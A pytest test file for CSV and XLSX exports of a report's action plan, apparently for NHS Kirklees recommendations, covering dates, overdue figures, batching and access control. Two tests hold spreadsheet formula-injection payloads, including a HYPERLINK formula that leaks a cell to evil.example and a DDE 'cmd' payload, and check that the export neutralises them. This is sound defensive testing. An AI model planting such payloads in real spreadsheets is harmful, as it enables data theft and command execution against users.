"""Spreadsheet exports of a report's action plan: CSV and XLSX, as of any date."""

import csv
import io
from collections import Counter
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook
from sqlalchemy import event

from app.clock import FixedClock
from app.domain.spreadsheet import HEADERS
from app.services import exports
from app.services.exports import end_of_day

API = "/api/v1"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# Rows per recommendation in the Kirklees seed: one per owner.
MULTI_OWNER_REFS = {
    **{f"4.{n}": 2 for n in range(1, 10)},
    "6.1": 3,
    "7.1": 3,
    "7.2": 3,
    "8.1": 3,
    "9.1": 2,
}
KIRKLEES_ROWS = 25 + sum(n - 1 for n in MULTI_OWNER_REFS.values())  # 43


def _csv_url(report_id) -> str:
    return f"{API}/reports/{report_id}/action-plan.csv"


def _xlsx_url(report_id) -> str:
    return f"{API}/reports/{report_id}/action-plan.xlsx"


def _cell_text(value) -> str:
    """An XLSX cell as the CSV writes it, to compare the two formats."""
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.date().isoformat()
    return str(value)


def _csv_rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    text = response.content.decode("utf-8-sig")
    header, *records = list(csv.reader(io.StringIO(text, newline="")))
    assert header == list(HEADERS)
    return [dict(zip(header, record, strict=True)) for record in records]


def _xlsx_rows(response) -> list[dict]:
    assert response.status_code == 200, response.text
    sheet = load_workbook(io.BytesIO(response.content))["Action plan"]
    header, *records = list(sheet.iter_rows())
    assert [c.value for c in header] == list(HEADERS)
    return [{h: cell for h, cell in zip(HEADERS, record, strict=True)} for record in records]


def _update(client, rec, status, organisation, reported_on=None):
    body = {"author": "lead", "narrative": "update", "status": status, "organisation_code": organisation}
    if reported_on:
        body["reported_on"] = reported_on
    response = client.post(f"{API}/recommendations/{rec['id']}/progress-updates", json=body)
    assert response.status_code == 201, response.text


def _evidence(client, rec, organisation):
    body = {"url": "https://example.org/evidence", "title": "Evidence", "organisation_code": organisation}
    response = client.post(f"{API}/recommendations/{rec['id']}/evidence-links", json=body)
    assert response.status_code == 201, response.text


@pytest.fixture
def progressed(client, kirklees):
    """Kirklees with some progress through June 2018, a target date, a verified and a closed item."""
    recs = kirklees["recommendations"]
    _update(client, recs["1.1"], "in_progress", "MYHT", reported_on="2018-06-01")
    _evidence(client, recs["1.2"], "MYHT")
    _update(client, recs["1.2"], "implemented", "MYHT", reported_on="2018-06-20")
    _evidence(client, recs["6.1"], "CHFT")
    _evidence(client, recs["6.1"], "CHFT")
    _update(client, recs["6.1"], "implemented", "CHFT", reported_on="2018-06-10")
    _update(client, recs["6.1"], "in_progress", "MYHT", reported_on="2018-06-15")
    for code in ("NKCCG", "GHCCG"):
        _evidence(client, recs["4.1"], code)
        _update(client, recs["4.1"], "implemented", code, reported_on="2018-06-25")
    decided = client.post(
        f"{API}/recommendations/{recs['4.1']['id']}/decisions", json={"decision": "verified"}
    )
    assert decided.status_code == 201, decided.text
    closed = client.post(
        f"{API}/recommendations/{recs['1.3']['id']}/decisions",
        json={"decision": "closed_not_implemented", "reason": "Superseded"},
    )
    assert closed.status_code == 201, closed.text
    moved = client.patch_fresh(
        f"{API}/recommendations/{recs['3.1']['id']}",
        json={"target_date": "2018-07-06", "organisation_code": "CHFT"},
    )
    assert moved.status_code == 200, moved.text
    return kirklees


@pytest.mark.parametrize(
    "as_of", ["2018-06-04", "2018-06-05", "2018-06-06", "2018-06-12", "2018-07-02", "2018-09-01"]
)
def test_the_xlsx_matches_the_api_for_the_same_date(client, progressed, as_of):
    report_id = progressed["report"]["id"]
    api = client.get(
        f"{API}/reports/{report_id}/recommendations", params={"as_of": as_of, "limit": 200}
    ).json()["items"]
    expected = [(rec, owner) for rec in api for owner in rec["owners"]]
    rows = _xlsx_rows(client.get(_xlsx_url(report_id), params={"as_of": as_of}))
    assert len(rows) == len(expected) == KIRKLEES_ROWS

    for row, (rec, owner) in zip(rows, expected, strict=True):
        values = {h: _cell_text(cell.value) for h, cell in row.items()}
        assert values["Reference"] == rec["ref"]
        assert values["Recommendation"] == rec["text"]
        assert (values["Owner"], values["Owner name"]) == (owner["code"], owner["name"])
        assert values["Owner status"] == owner["status"]
        assert values["Recommendation status"] == rec["status"]
        assert values["Target date"] == (rec["target_date"] or "")
        assert values["Effective due date"] == rec["effective_due_date"]
        assert row["Days overdue"].value == rec["days_overdue"]
        assert row["Working days overdue"].value == rec["working_days_overdue"]
        assert values["RAG"] == rec["rag"]
        # Dates are real dates and numbers real numbers.
        assert row["Effective due date"].is_date and row["Effective due date"].number_format == "yyyy-mm-dd"
        assert isinstance(row["Days overdue"].value, int) and row["Days overdue"].data_type == "n"
        assert isinstance(row["Evidence links"].value, int)


def test_last_update_and_evidence_are_each_owners_own_as_of_the_date(client, progressed):
    report_id = progressed["report"]["id"]

    def owners_of(as_of, ref):
        rows = _csv_rows(client.get(_csv_url(report_id), params={"as_of": as_of}))
        return {
            r["Owner"]: (r["Owner status"], r["Last update"], r["Evidence links"])
            for r in rows
            if r["Reference"] == ref
        }

    # Evidence was entered on 2 July (the test clock); progress is back-dated to June.
    assert owners_of("2018-06-12", "6.1") == {
        "SWYPFT": ("not_started", "", "0"),
        "CHFT": ("implemented", "2018-06-10", "0"),
        "MYHT": ("not_started", "", "0"),
    }
    assert owners_of("2018-07-02", "6.1") == {
        "SWYPFT": ("not_started", "", "0"),
        "CHFT": ("implemented", "2018-06-10", "2"),
        "MYHT": ("in_progress", "2018-06-15", "0"),
    }
    assert owners_of("2018-05-31", "1.1") == {"MYHT": ("not_started", "", "0")}
    assert owners_of("2018-06-01", "1.1") == {"MYHT": ("in_progress", "2018-06-01", "0")}


def test_the_csv_has_a_bom_crlf_and_one_row_per_recommendation_and_owner(client, kirklees):
    report_id = kirklees["report"]["id"]
    response = client.get(_csv_url(report_id))
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert (
        response.headers["content-disposition"]
        == 'attachment; filename="kirklees-clas-2018-action-plan-2018-07-02.csv"'
    )
    assert response.content.startswith(b"\xef\xbb\xbf")
    text = response.content.decode("utf-8-sig")
    assert text.count("\r\n") == text.count("\n")  # every line ends CRLF, even inside quoted cells
    rows = _csv_rows(response)
    assert len(rows) == KIRKLEES_ROWS == 43
    per_ref = Counter(r["Reference"] for r in rows)
    assert len(per_ref) == 25
    assert per_ref == {ref: MULTI_OWNER_REFS.get(ref, 1) for ref in kirklees["recommendations"]}
    assert [r["Owner"] for r in rows if r["Reference"] == "6.1"] == ["SWYPFT", "CHFT", "MYHT"]
    refs = list(dict.fromkeys(r["Reference"] for r in rows))
    assert refs == list(kirklees["recommendations"])  # report order, as the API lists them
    first = rows[0]
    assert first["Reference"] == "1.1" and first["Owner"] == "MYHT"
    assert first["Owner name"] == "The Mid Yorkshire Hospitals NHS Trust"
    assert first["Recommendation"] == kirklees["recommendations"]["1.1"]["text"]
    assert first["Effective due date"] == kirklees["report"]["action_plan_due_date"]


def test_the_xlsx_is_a_workbook_with_a_usable_sheet_and_what_it_is_of(client, kirklees):
    report_id = kirklees["report"]["id"]
    response = client.get(_xlsx_url(report_id), params={"as_of": "2018-06-05"})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == XLSX
    assert (
        response.headers["content-disposition"]
        == 'attachment; filename="kirklees-clas-2018-action-plan-2018-06-05.xlsx"'
    )
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["Action plan", "About"]
    sheet = workbook["Action plan"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:M{KIRKLEES_ROWS + 1}"
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.column_dimensions["B"].width >= 60
    assert sheet["B2"].alignment.wrap_text
    about = {row[0].value: row[1].value for row in workbook["About"].iter_rows()}
    assert about["Report"] == kirklees["report"]["title"]
    assert about["Slug"] == "kirklees-clas-2018"
    assert about["As of"] == datetime(2018, 6, 5)
    assert about["Rows"] == KIRKLEES_ROWS


def test_as_of_changes_the_figures(client, kirklees):
    """The action plan fell due on 5 June 2018: nothing is overdue that day, everything the next."""
    report_id = kirklees["report"]["id"]
    assert kirklees["report"]["action_plan_due_date"] == "2018-06-05"
    before = _csv_rows(client.get(_csv_url(report_id), params={"as_of": "2018-06-05"}))
    after = _csv_rows(client.get(_csv_url(report_id), params={"as_of": "2018-06-06"}))
    assert {(r["Days overdue"], r["Working days overdue"], r["RAG"]) for r in before} == {("0", "0", "amber")}
    assert {(r["Days overdue"], r["Working days overdue"], r["RAG"]) for r in after} == {("1", "1", "red")}
    xlsx = _xlsx_rows(client.get(_xlsx_url(report_id), params={"as_of": "2018-07-02"}))
    assert {row["Days overdue"].value for row in xlsx} == {27}
    assert {row["RAG"].value for row in xlsx} == {"red"}


HOSTILE_TEXTS = {
    "10.1": '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    "10.2": "+1",
    "10.3": "-2",
    "10.4": "@SUM(1)",
}


def test_formula_injection_is_neutralised_in_both_formats(client, kirklees):
    report_id = kirklees["report"]["id"]
    for ref, text in HOSTILE_TEXTS.items():
        created = client.post(
            f"{API}/reports/{report_id}/recommendations",
            json={"ref": ref, "text": text, "owners": ["MYHT"], "target_date": "2018-09-28"},
        )
        assert created.status_code == 201, created.text
        assert created.json()["text"] == text  # stored verbatim; only the export neutralises

    csv_rows = {r["Reference"]: r for r in _csv_rows(client.get(_csv_url(report_id)))}
    xlsx_rows = {row["Reference"].value: row for row in _xlsx_rows(client.get(_xlsx_url(report_id)))}
    assert len(csv_rows) == len(xlsx_rows) == 29
    for ref, text in HOSTILE_TEXTS.items():
        assert csv_rows[ref]["Recommendation"] == "'" + text
        cell = xlsx_rows[ref]["Recommendation"]
        assert cell.value == "'" + text and cell.data_type == "s"  # text, not a formula
        # The typed cells beside it stay real dates and numbers.
        assert csv_rows[ref]["Target date"] == "2018-09-28"
        target = xlsx_rows[ref]["Target date"]
        assert target.is_date and target.value == datetime(2018, 9, 28)
        assert xlsx_rows[ref]["Days overdue"].value == 0 and xlsx_rows[ref]["Days overdue"].data_type == "n"
        assert xlsx_rows[ref]["Evidence links"].value == 0
    # No cell anywhere in the workbook is a formula.
    workbook = load_workbook(io.BytesIO(client.get(_xlsx_url(report_id)).content))
    assert not [c.coordinate for ws in workbook for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_a_hostile_report_title_is_neutralised_too(client, seeded):
    created = client.post(
        f"{API}/reports",
        json={
            "slug": "hostile-2020",
            "title": "=cmd|' /C calc'!A0",
            "regulator": "-Regulator",
            "published_date": "2018-05-04",
        },
    )
    assert created.status_code == 201, created.text
    response = client.get(_xlsx_url(created.json()["id"]))
    about = {row[0].value: row[1] for row in load_workbook(io.BytesIO(response.content))["About"].iter_rows()}
    assert about["Report"].value == "'=cmd|' /C calc'!A0" and about["Report"].data_type == "s"
    assert about["Regulator"].value == "'-Regulator"
    assert about["Rows"].value == 0
    assert _csv_rows(client.get(_csv_url(created.json()["id"]))) == []


def test_batches_page_through_the_report_with_one_activity_query_each(
    client, progressed, monkeypatch, app
):
    report_id = progressed["report"]["id"]
    whole = client.get(_csv_url(report_id)).content
    whole_xlsx = _xlsx_rows(client.get(_xlsx_url(report_id)))
    monkeypatch.setattr(exports, "BATCH_SIZE", 10)
    statements: list[str] = []

    def record(_conn, _cursor, statement, *_args):
        statements.append(statement)

    engine = app.state.engine
    event.listen(engine, "before_cursor_execute", record)
    try:
        batched = client.get(_csv_url(report_id)).content
    finally:
        event.remove(engine, "before_cursor_execute", record)
    assert batched == whole
    # 25 recommendations in batches of 10: three pages, one grouped activity query each.
    assert len([s for s in statements if "evidence_link" in s]) == 3
    assert len([s for s in statements if "LIMIT" in s.upper() and "recommendation.text" in s]) == 3
    assert len(_xlsx_rows(client.get(_xlsx_url(report_id)))) == len(whole_xlsx)


def test_evidence_counts_by_the_end_of_the_day_where_the_users_are(client, kirklees, app):
    # 23:30 UTC on 1 July is 00:30 on 2 July in London (BST).
    assert end_of_day(date(2018, 7, 1), "Europe/London") == datetime(2018, 7, 1, 23, 0, tzinfo=UTC)
    app.state.clock = FixedClock(at=datetime(2018, 7, 1, 23, 30, tzinfo=UTC))
    report_id = kirklees["report"]["id"]
    _evidence(client, kirklees["recommendations"]["2.1"], "Locala")

    def links(as_of):
        rows = _csv_rows(client.get(_csv_url(report_id), params={"as_of": as_of}))
        return next(r["Evidence links"] for r in rows if r["Reference"] == "2.1")

    assert links("2018-07-01") == "0"
    assert links("2018-07-02") == "1"


def test_any_key_may_export(client, kirklees, auth):
    report_id = kirklees["report"]["id"]
    for headers in (auth("viewer"), auth("editor", "CHFT"), auth("assurer")):
        assert client.get(_csv_url(report_id), headers=headers).status_code == 200
        assert client.get(_xlsx_url(report_id), headers=headers).status_code == 200


@pytest.mark.parametrize("url", [_csv_url, _xlsx_url])
def test_no_key_is_401(anonymous, kirklees, problem, url):
    problem(anonymous.get(url(kirklees["report"]["id"])), 401)


@pytest.mark.parametrize("url", [_csv_url, _xlsx_url])
def test_an_unknown_report_is_404(client, seeded, problem, url):
    problem(client.get(url(987654)), 404)


@pytest.mark.parametrize("url", [_csv_url, _xlsx_url])
@pytest.mark.parametrize("params", [{"as_of": "yesterday"}, {"as_of": "2300-01-01"}])
def test_a_bad_date_is_422(client, kirklees, problem, url, params):
    problem(client.get(url(kirklees["report"]["id"]), params=params), 422)


def test_openapi_offers_the_downloads(client):
    paths = client.get("/openapi.json").json()["paths"]
    csv_get = paths["/api/v1/reports/{report_id}/action-plan.csv"]["get"]
    xlsx_get = paths["/api/v1/reports/{report_id}/action-plan.xlsx"]["get"]
    assert set(csv_get["responses"]["200"]["content"]) == {"text/csv"}
    assert set(xlsx_get["responses"]["200"]["content"]) == {XLSX}
    for operation in (csv_get, xlsx_get):
        assert {"401", "404", "422"} <= set(operation["responses"])
        assert "as_of" in {p["name"] for p in operation["parameters"]}
